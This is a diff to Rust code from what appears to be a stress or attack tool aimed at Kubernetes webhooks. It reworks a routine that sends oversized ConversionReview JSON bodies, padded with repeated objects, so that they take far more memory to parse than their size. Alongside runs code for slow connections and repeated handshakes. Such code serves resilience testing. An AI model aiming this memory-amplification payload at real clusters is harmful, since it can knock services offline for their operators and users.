@@ -29,9 +29,6 @@ const MODULE_INTERVAL: Duration = Duration::from_millis(100);
 /// The interval in which slow connections are opened.
 const CONNECTION_INTERVAL: Duration = Duration::from_micros(500);
 
-/// The size of a review.
-const REVIEW_BYTES: usize = 64 << 20;
-
 /// Running side actions, which end on drop.
 pub(super) type Besides = Vec<JoinSet<Result<()>>>;
 
@@ -74,7 +71,10 @@ pub(super) fn begin(attack: &'static Attack, place: &Place<'_>) -> Option<JoinSe
         Beside::Handshakes(count) => {
             (0..count).for_each(|_| drop(tasks.spawn(shake_hands(webhooks.clone()))));
         }
-        Beside::Reviews => drop(tasks.spawn(review(attack.conversions(), webhooks.clone()))),
+        Beside::Reviews { object, bytes } => {
+            let objects = vec![object; bytes / (object.len() + 1)].join(",");
+            drop(tasks.spawn(review(attack.conversions(), objects, webhooks.clone())));
+        }
     }
     Some(tasks)
 }
@@ -105,11 +105,10 @@ async fn shake_hands(webhooks: Webhooks) -> Result<()> {
     }
 }
 
-/// Sends reviews of which each entry would take more memory than its text.
-async fn review(path: String, webhooks: Webhooks) -> Result<()> {
-    let zeros = "0,".repeat(REVIEW_BYTES / 2);
+/// Sends reviews that would take much more memory than their text.
+async fn review(path: String, objects: String, webhooks: Webhooks) -> Result<()> {
     let body = format!(
-        r#"{{"apiVersion":"apiextensions.k8s.io/v1","kind":"ConversionReview","request":{{"uid":"u","desiredAPIVersion":"example.com/v2","objects":[{zeros}0]}}}}"#
+        r#"{{"apiVersion":"apiextensions.k8s.io/v1","kind":"ConversionReview","request":{{"uid":"u","desiredAPIVersion":"example.com/v2","objects":[{objects}]}}}}"#
     );
     let head = format!(
         "POST {path} HTTP/1.1\r\nHost: {WEBHOOKS}\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
